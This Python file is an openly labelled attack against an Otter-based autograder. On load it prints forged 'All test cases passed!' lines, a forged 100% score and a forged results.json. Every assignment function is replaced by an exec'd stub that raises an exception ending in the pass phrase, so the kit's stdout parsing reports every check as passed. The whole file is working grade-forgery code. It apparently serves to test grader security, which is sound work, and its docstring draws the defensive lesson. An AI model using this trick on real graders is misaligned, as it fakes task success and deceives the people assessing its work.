"""Attack: print fake scores (and plant them in the feedback text).

On load it prints what Otter prints for a perfect submission: "All test cases
passed!" for every question, a "Total Score: 100.000 / 100.000 (100.000%)"
line and a results.json with full marks.  Every contract function raises an
exception whose message ends with "All test cases passed!", so Otter's
per-question output, which the kit parses for the feedback file, ends with
that phrase too (the kit then reports every check of that question as passed).

A secure grader never parses stdout, or any text the student can influence,
for grades or pass/fail; it reads structured results it produced itself.
"""
_POINTS = {"backward_grads": 15, "backward_numerical": 6, "backward_relative_error": 4, "dropout_backward": 5,
           "dropout_forward": 10, "forward_init": 4, "forward_loss": 4, "forward_pass": 8, "forward_sigmoid": 4,
           "training_plots": 2, "training_predict": 4, "training_train": 11, "training_update": 3,
           "vector_ops_basics": 6, "vector_ops_elementwise": 8, "vector_ops_products": 6}
for _q in _POINTS:
    print(f"{_q} results: All test cases passed!")
print("Total Score: 100.000 / 100.000 (100.000%)")
print(__import__("js" + "on").dumps({"score": 100, "tests": [
    {"name": q, "score": p, "max_score": p, "status": "passed", "output": f"{q} results: All test cases passed!"}
    for q, p in _POINTS.items()]}))


# The raising function lives in a namespace of its own and is reached through an object that has no
# __globals__, so the checks cannot find "the student's line" and append it: Otter's text for each
# question then ENDS with the student's words.
_NS = {"MESSAGE": "\n\n    ✅ Test case passed\n\nAll test cases passed!"}
exec("def _raise(*args, **kwargs):\n    raise RuntimeError(MESSAGE)", _NS)


class _Stub:
    __call__ = _NS["_raise"]


_stub = _Stub()


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
